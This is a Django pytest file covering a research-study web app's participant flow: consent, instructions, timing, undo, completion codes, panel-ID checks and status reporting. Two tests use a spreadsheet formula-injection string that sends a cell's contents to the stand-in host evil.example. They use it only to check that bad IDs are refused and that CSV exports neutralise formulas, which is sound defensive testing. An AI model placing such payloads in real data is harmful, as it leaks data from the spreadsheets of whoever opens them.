"""The participant's way through a study as they expect it: the instructions before the tasks,
time on task measured by the server, nothing undone after the code, a finished participant
welcomed back with their code, panel ids checked, and one status everywhere."""
import csv
import io
from datetime import timedelta

import pytest
from django.db.models import F, Min
from django.test import Client
from django.utils import timezone

from tests.factories import UserFactory, build_open_study
from tests.narrow import present
from webapp.studies.models import CountResponse, Entry, Evaluator, RankResponse, Study

from .conftest import PID, answer_data, current_task, demo_protocol, join, start

pytestmark = pytest.mark.django_db

@pytest.fixture
def panel_study():
    return build_open_study(n_slots=2, protocol=demo_protocol())


def _consented(client: Client, study, **params) -> Client:
    assert client.get(f"/join/{study.invite_token}/", params).status_code == 302
    assert client.post(f"/e/{study.slug}/consent/", {"agree": "yes"}).status_code == 302
    return client


def _finish(client: Client, study, *, count: str = "2") -> None:
    while (state := current_task(client, study))["done"] is False:
        assert client.post(f"/e/{study.slug}/task/", answer_data(state["task"], count=count)).status_code == 302


def _n_answers() -> int:
    return CountResponse.objects.count() + RankResponse.objects.count()


def _researcher_client(study) -> Client:
    user = UserFactory(username="alice")
    study.researchers.add(user)
    client = Client()
    client.force_login(user)
    return client


# --------------------------------------------------------------------------- instructions first


def test_the_tasks_cannot_be_opened_before_the_instructions(study):
    client = Client()
    assert client.get(f"/join/{study.invite_token}/").status_code == 302
    # Joined, not consented: the state points to the consent page, with no tasks done.
    assert current_task(client, study) == {"done": False, "next": f"/e/{study.slug}/consent/",
                                           "progress": {"answered": 0, "total": 0, "percent": 0}}
    client = _consented(Client(), study)
    r = client.get(f"/e/{study.slug}/task/")
    assert r.status_code == 302 and r["Location"].endswith("/instructions/")
    state = current_task(client, study)
    assert "task" not in state and state["next"] == f"/e/{study.slug}/instructions/"  # the JSON shows no task either
    assert client.post(f"/e/{study.slug}/instructions/")["Location"].endswith("/task/")
    assert client.get(f"/e/{study.slug}/task/").status_code == 200


def test_the_practice_item_cannot_be_skipped_either(panel_study):
    client = _consented(Client(), panel_study, PROLIFIC_PID=PID)
    # The practice item opens from the instructions' "Start" only, not by its URL.
    assert client.get(f"/e/{panel_study.slug}/practice/")["Location"].endswith("/instructions/")
    assert client.post(f"/e/{panel_study.slug}/practice/", {"answer": "2"})["Location"].endswith("/instructions/")
    assert Evaluator.objects.get().started_at is None
    # "Start" leads to the practice item; neither it nor a typed URL opens the tasks.
    assert client.post(f"/e/{panel_study.slug}/instructions/")["Location"].endswith("/practice/")
    assert client.get(f"/e/{panel_study.slug}/task/")["Location"].endswith("/instructions/")
    assert Evaluator.objects.get().started_at is None
    r = client.post(f"/e/{panel_study.slug}/practice/", {"answer": "7"})  # wrong is still practice done
    # Post, redirect, get: the feedback is a page of its own, so the back button from the
    # first task (or a reload) shows it again and never sends the answer a second time.
    assert r.status_code == 302 and r["Location"].endswith("/practice/")
    for _ in range(2):
        page = client.get(r["Location"])
        assert page.status_code == 200 and b'id="feedback"' in page.content and b"you said 7" in page.content
    assert client.get(f"/e/{panel_study.slug}/task/").status_code == 200


# --------------------------------------------------------------------------- time on task


def test_time_on_task_runs_from_the_first_showing_across_reloads(study):
    client = join(Client(), study)
    assert client.get(f"/e/{study.slug}/task/").status_code == 200
    entry = Entry.objects.get(shown_at__isnull=False)
    # As if the task had been shown 90 s ago; the participant then reloads the page.
    first_shown = timezone.now() - timedelta(seconds=90)
    Entry.objects.filter(pk=entry.pk).update(shown_at=first_shown)
    assert client.get(f"/e/{study.slug}/task/").status_code == 200
    state = current_task(client, study)  # the JSON view is a showing too
    assert Entry.objects.get(pk=entry.pk).shown_at == first_shown
    assert client.post(f"/e/{study.slug}/task/", answer_data(state["task"])).status_code == 302
    answer = (CountResponse.objects.filter(entry=entry).first() or RankResponse.objects.get(entry=entry))
    assert 90 <= answer.seconds < 120


def test_each_task_is_stamped_once_when_first_shown(study):
    client = join(Client(), study)
    # A HEAD of the task page or of the state shows nothing to anyone: no clock starts.
    assert client.head(f"/e/{study.slug}/task/").status_code == 200
    assert client.head(f"/e/{study.slug}/state/").status_code == 200
    assert not Entry.objects.filter(shown_at__isnull=False).exists()
    current_task(client, study)
    assert Entry.objects.filter(shown_at__isnull=False).count() == 1
    state = current_task(client, study)
    r = client.post(f"/e/{study.slug}/task/", answer_data(state["task"]), HTTP_ACCEPT="application/json")
    assert r.json()["task"]  # the reply shows the next task
    assert Entry.objects.filter(shown_at__isnull=False).count() == 2


def _answers_in_order() -> list:
    return sorted([*CountResponse.objects.all(), *RankResponse.objects.all()], key=lambda a: a.created_at)


def _answer_json(client: Client, study) -> dict:
    state = current_task(client, study)
    r = client.post(f"/e/{study.slug}/task/", answer_data(state["task"]), HTTP_ACCEPT="application/json")
    assert r.status_code == 200 and r.json()["ok"]
    return r.json()


def test_undo_cycles_count_no_time_twice(study):
    """The probe's script: answer fast, wait once, undo everything, answer fast again. Time
    on tasks must stay within the time from the first showing to the last answer, and no two
    answers' intervals may overlap."""
    client = join(Client(), study)
    n = min(4, current_task(client, study)["progress"]["total"] - 1)  # not the last: no code, undo allowed
    for _ in range(n):
        _answer_json(client, study)
    # 30 s pass before the undos: every time stored so far moves 30 s into the past.
    wait = timedelta(seconds=30)
    Entry.objects.exclude(shown_at=None).update(shown_at=F("shown_at") - wait)
    for model in (CountResponse, RankResponse):
        model.objects.update(created_at=F("created_at") - wait)
    first_shown = present(Entry.objects.exclude(shown_at=None).aggregate(first=Min("shown_at"))["first"])
    for _ in range(n):
        assert client.post(f"/e/{study.slug}/undo/").status_code == 302
    assert _n_answers() == 0
    for _ in range(n):
        _answer_json(client, study)
    answers = _answers_in_order()
    assert len(answers) == n
    wall = (answers[-1].created_at - first_shown).total_seconds()
    assert sum(a.seconds for a in answers) <= wall
    assert sum(a.seconds for a in answers) < 5  # answered at once after each undo: not the 30 s again
    for before, after in zip(answers, answers[1:], strict=False):
        assert (after.created_at - timedelta(seconds=after.seconds)) >= before.created_at - timedelta(milliseconds=1)


def test_a_reanswered_task_counts_from_the_undo(study):
    client = join(Client(), study)
    _answer_json(client, study)
    _answer_json(client, study)
    # Both tasks were shown a minute ago (the second is on the screen now).
    Entry.objects.exclude(shown_at=None).update(shown_at=timezone.now() - timedelta(seconds=60))
    undone_at = timezone.now()
    assert client.post(f"/e/{study.slug}/undo/").status_code == 302
    reopened = Entry.objects.get(index=1)
    assert reopened.shown_at is not None and reopened.shown_at >= undone_at
    assert Entry.objects.get(index=2).shown_at is None  # no longer shown: its time starts when it is
    client.get(f"/e/{study.slug}/task/")  # a reload does not restart the reopened task's time
    assert Entry.objects.get(index=1).shown_at == reopened.shown_at
    _answer_json(client, study)
    answer = _answers_in_order()[-1]
    assert answer.entry_id == reopened.pk
    assert answer.seconds <= (timezone.now() - undone_at).total_seconds() < 60


def test_the_next_tasks_old_form_is_refused_after_an_undo(study):
    """Two tabs: the task that was next is still on one of them after an undo in the other."""
    client = join(Client(), study)
    _answer_json(client, study)
    stale = _answer_json(client, study)["task"]  # task 3, on a second tab
    assert client.post(f"/e/{study.slug}/undo/").status_code == 302
    before = _n_answers()
    r = client.post(f"/e/{study.slug}/task/", answer_data(stale), HTTP_ACCEPT="application/json")
    assert r.status_code == 409 and r.json()["error"]["code"] == "not_shown"
    assert _n_answers() == before
    assert current_task(client, study)["task"]["number"] == 2  # the reopened task is the one to answer


def test_study_minutes_run_from_consent_to_the_last_answer(study):
    client = join(Client(), study, PROLIFIC_PID="p-minutes")
    _finish(client, study)
    ev = Evaluator.objects.get()
    assert ev.consented_at is not None
    Evaluator.objects.filter(pk=ev.pk).update(consented_at=ev.consented_at - timedelta(minutes=5))
    from webapp.research.participants import participant_rows

    row = participant_rows(study=study)[0]
    assert 5.0 <= row.minutes < 5.5
    assert row.task_minutes < 1.0  # a test client answers in milliseconds


def test_fast_participants_with_good_gold_answers_are_put_to_review_not_rejected(panel_study):
    # The demo's speed rule (median under 1 s excludes) is broken by every test client,
    # which answers in milliseconds: the data is excluded, and the person is neither
    # rejected (the gold is right) nor in the list pasted into the panel's bulk approval.
    researcher = _researcher_client(panel_study)
    good = join(Client(), panel_study, PROLIFIC_PID="a" * 24)
    bad = join(Client(), panel_study, PROLIFIC_PID="b" * 24)
    _finish(good, panel_study, count="4")  # the gold image shows four circles
    _finish(bad, panel_study, count="1")
    r = researcher.get(f"/run/{panel_study.slug}/participants.csv")
    rows = {row["participant_id"]: row for row in csv.DictReader(io.StringIO(r.content.decode()))}
    assert "median seconds" in rows["a" * 24]["exclusion"] and rows["a" * 24]["gold_accuracy"] == "1.000"
    assert rows["a" * 24]["suggestion"] == "review"
    assert rows["b" * 24]["suggestion"] == "reject" and "gold accuracy" in rows["b" * 24]["exclusion"]
    page = researcher.get(f"/run/{panel_study.slug}/participants/").content.decode()
    assert f'<textarea id="ids-review" rows="4" readonly>{"a" * 24}</textarea>' in page
    assert '<textarea id="ids-approve" rows="4" readonly></textarea>' in page


def test_one_who_is_not_too_fast_is_approved_and_a_cant_tell_on_gold_is_no_miscount(panel_study):
    researcher = _researcher_client(panel_study)
    client = join(Client(), panel_study, PROLIFIC_PID="c" * 24)
    while (state := current_task(client, panel_study))["done"] is False:
        task = state["task"]
        data = answer_data(task, count="4")
        if task["kind"] == "count":
            item = Entry.objects.get(evaluator__external_id="c" * 24, index=task["number"] - 1).item
            if item.is_gold:  # an honest "can't tell" on the gold image
                data = {"kind": "count", "token": task["token"], "cant_tell": "on"}
        assert client.post(f"/e/{panel_study.slug}/task/", data).status_code == 302
    # Slow enough for the speed rule (the test client answers in milliseconds).
    CountResponse.objects.update(seconds=5.0)
    RankResponse.objects.update(seconds=5.0)
    r = researcher.get(f"/run/{panel_study.slug}/participants.csv")
    (row,) = csv.DictReader(io.StringIO(r.content.decode()))
    assert row["gold_accuracy"] == "" and "gold" not in row["exclusion"], row
    assert row["suggestion"] == "approve", row


# --------------------------------------------------------------------------- after the code


def test_nothing_can_be_undone_once_the_code_is_shown(panel_study):
    client = join(Client(), panel_study, PROLIFIC_PID=PID)
    _finish(client, panel_study)
    page = client.get(f"/e/{panel_study.slug}/done/")
    code = panel_study.completion_code.encode()
    assert page.status_code == 200 and code in page.content and b"/undo/" not in page.content
    before = _n_answers()
    r = client.post(f"/e/{panel_study.slug}/undo/", HTTP_ACCEPT="application/json")
    assert r.status_code == 409 and r.json()["error"]["code"] == "completed"
    assert _n_answers() == before and Evaluator.objects.get().finished_at is not None


def test_the_code_is_not_shown_to_one_who_only_opened_the_link_or_declined(panel_study):
    code = panel_study.completion_code.encode()
    opened = Client()
    opened.get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID})
    r = opened.get(f"/e/{panel_study.slug}/done/")
    assert r.status_code == 302 and r["Location"].endswith("/consent/")
    assert code not in opened.get(r["Location"]).content
    declined = Client()
    declined.get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": "b" * 24})
    page = declined.post(f"/e/{panel_study.slug}/consent/", {"agree": "no"}).content
    assert code not in page
    r = declined.get(f"/e/{panel_study.slug}/done/", follow=True)
    assert r.status_code == 200 and code not in r.content and b"prolific.com" in r.content  # the declined page


def test_a_finished_participant_in_another_browser_sees_already_completed_and_the_code(panel_study):
    client = join(Client(), panel_study, PROLIFIC_PID=PID)
    _finish(client, panel_study)
    code = panel_study.completion_code
    again = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID})
    assert again.status_code == 200
    assert b"already completed" in again.content and code.encode() in again.content
    assert b"Continue here" not in again.content
    # The same browser, by its link, sees the same page; and so after the study closes.
    r = client.get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID})
    assert r.status_code == 200 and b"already completed" in r.content and code.encode() in r.content
    Study.objects.filter(pk=panel_study.pk).update(status=Study.Status.CLOSED)
    late = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID})
    assert late.status_code == 200 and code.encode() in late.content


def test_the_done_page_sends_panel_participants_back_and_shows_others_the_code_only(panel_study):
    panel = join(Client(), panel_study, PROLIFIC_PID=PID)
    _finish(panel, panel_study)
    page = panel.get(f"/e/{panel_study.slug}/done/").content.decode()
    assert 'id="return-link"' in page and "data-auto-return" in page and 'data-after="5"' in page
    plain = join(Client(), panel_study)  # the link opened without Prolific's ids
    _finish(plain, panel_study)
    page = plain.get(f"/e/{panel_study.slug}/done/").content.decode()
    assert panel_study.completion_code in page
    assert 'id="return-link"' not in page and "data-auto-return" not in page and "prolific.com" not in page


def test_the_consent_page_says_what_coming_back_with_the_link_means(panel_study):
    plain = Client()
    plain.get(f"/join/{panel_study.invite_token}/")
    assert "in this same browser" in plain.get(f"/e/{panel_study.slug}/consent/").content.decode()
    panel = Client()
    panel.get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID})
    assert "in this browser or another" in panel.get(f"/e/{panel_study.slug}/consent/").content.decode()


# --------------------------------------------------------------------------- panel ids


@pytest.mark.parametrize("bad", ["abc", "0123456789abcdef0123456g", "0123456789abcdef01234567-x"])
def test_a_url_panel_id_is_checked_like_a_typed_one(panel_study, bad):
    r = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": bad})
    body = r.content.decode()
    assert r.status_code == 400 and "24 characters, digits 0-9 and letters a-f" in body
    # The page says the link's id is wrong, not that the study is unavailable.
    assert "<title>The ID in this link is not valid</title>" in body and "Study unavailable" not in body
    assert not Evaluator.objects.exists()


BAD_PANEL_IDS = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "abc", "0123456789abcdef0123456g",
                 "0123456789abcdef0123456"]


@pytest.mark.parametrize("param", ["STUDY_ID", "SESSION_ID"])
@pytest.mark.parametrize("bad", BAD_PANEL_IDS)
def test_a_prolific_link_with_a_malformed_study_or_session_id_stores_nothing(panel_study, param, bad):
    ids = {"PROLIFIC_PID": PID, "STUDY_ID": "a" * 24, "SESSION_ID": "b" * 24, param: bad}
    r = Client().get(f"/join/{panel_study.invite_token}/", ids)
    body = r.content.decode()
    assert r.status_code == 400 and "The ID in this link is not valid" in body
    assert "study or session ID in this link is not one Prolific made" in body
    assert not Evaluator.objects.exists()


def test_a_prolific_link_with_an_unfilled_study_id_says_the_panel_did_not_fill_it(panel_study):
    r = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID, "STUDY_ID": "{{%STUDY_ID%}}"})
    body = r.content.decode()
    assert r.status_code == 400 and "not filled in by Prolific" in body and "STUDY_ID%" not in body
    assert not Evaluator.objects.exists()


def test_a_prolific_link_keeps_well_formed_study_and_session_ids(panel_study):
    r = Client().get(f"/join/{panel_study.invite_token}/",
                     {"PROLIFIC_PID": PID, "STUDY_ID": "A" * 24, "SESSION_ID": "0b" * 12})
    assert r.status_code == 302
    ev = Evaluator.objects.get()
    # Stored as Prolific writes its ids, in lower case (recruitment.canonical_ids).
    assert (ev.external_id, ev.external_study_id, ev.external_session_id) == (PID, "a" * 24, "0b" * 12)


def test_an_unfilled_placeholder_says_the_panel_did_not_fill_the_link(panel_study):
    r = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": "{{%PROLIFIC_PID%}}"})
    body = r.content.decode()
    assert r.status_code == 400 and "not filled in by Prolific" in body and "PROLIFIC_PID%" not in body
    assert not Evaluator.objects.exists()


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_the_participants_csv_writes_no_panel_id_as_a_formula(study, first):
    """A generic panel's ids are any printable text: a cell a spreadsheet would run as a
    formula gets a quote in front (OWASP's advice), every other id is written as it is."""
    Client().get(f"/join/{study.invite_token}/", {"PROLIFIC_PID": "worker-1"})
    formula = first + 'HYPERLINK("http://evil.example/?"&A2,"click")'
    Evaluator.objects.update(external_id=formula, external_study_id=formula + "s", external_session_id=formula + "x")
    Client().get(f"/join/{study.invite_token}/", {"PROLIFIC_PID": "plain-2"})
    from webapp.research.participants import participant_rows, participants_csv

    rows = {r["pseudonym"]: r for r in csv.DictReader(io.StringIO(participants_csv(participant_rows(study=study))))}
    by_id = {r["participant_id"]: r for r in rows.values()}
    assert set(by_id) == {"'" + formula, "plain-2"}
    assert by_id["'" + formula]["study_id"] == "'" + formula + "s"
    assert by_id["'" + formula]["session_id"] == "'" + formula + "x"
    assert by_id["plain-2"]["study_id"] == "" and by_id["plain-2"]["session_id"] == ""


# --------------------------------------------------------------------------- one status


def test_the_dashboard_and_the_participants_page_agree_on_a_declined_participant(panel_study):
    researcher = _researcher_client(panel_study)
    declined = Client()
    declined.get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": "c" * 24})
    declined.post(f"/e/{panel_study.slug}/consent/", {"agree": "no"})
    Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": "d" * 24})  # opened, undecided
    working = join(Client(), panel_study, PROLIFIC_PID="e" * 24)
    assert working
    progress = researcher.get(f"/research/{panel_study.slug}/progress.json").json()
    by_pseudonym = {row["pseudonym"]: row["status"] for row in progress["per_evaluator"]}
    r = researcher.get(f"/run/{panel_study.slug}/participants.csv")
    rows = {row["participant_id"]: row for row in csv.DictReader(io.StringIO(r.content.decode()))}
    for pid, status in (("c" * 24, "declined"), ("d" * 24, "consenting"), ("e" * 24, "active")):
        assert rows[pid]["status"] == status and by_pseudonym[rows[pid]["pseudonym"]] == status
    page = researcher.get(f"/run/{panel_study.slug}/participants/").content.decode()
    assert '<td class="status-declined">declined</td>' in page
    # "Started" counts who began the tasks, not who opened the link.
    assert progress["evaluators"]["joined"] == 3 and progress["evaluators"]["consented"] == 1
    assert progress["evaluators"]["started"] == 1 and progress["evaluators"]["declined"] == 1
    # The report counts by the same status.
    from webapp.research.selectors import study_evaluator_summary

    summary = study_evaluator_summary(study=panel_study)
    assert (summary["joined"], summary["declined"], summary["abandoned"], summary["finished"]) == (3, 1, 0, 0)


def test_the_same_browser_start_helper_is_what_the_page_posts(study):
    # The instructions page carries the form the tests post (a button, not a link).
    client = _consented(Client(), study)
    page = client.get(f"/e/{study.slug}/instructions/").content.decode()
    assert '<form method="post" class="actions">' in page and 'id="start"' in page
    start(client, study)
    assert Evaluator.objects.get().started_at is not None


def test_the_join_takeover_and_paused_pages_use_the_public_title(panel_study):
    public, internal = demo_protocol()["consent"]["title"], "pilot-7 internal name"
    Study.objects.filter(pk=panel_study.pk).update(title=internal)
    Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID})
    takeover = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": PID})
    Study.objects.filter(pk=panel_study.pk).update(status=Study.Status.PAUSED)
    paused = Client().get(f"/join/{panel_study.invite_token}/", {"PROLIFIC_PID": "f" * 24})
    for r in (takeover, paused):
        assert r.status_code in (403, 409)
        body = r.content.decode()
        assert f"<h1>{public}</h1>" in body and internal not in body
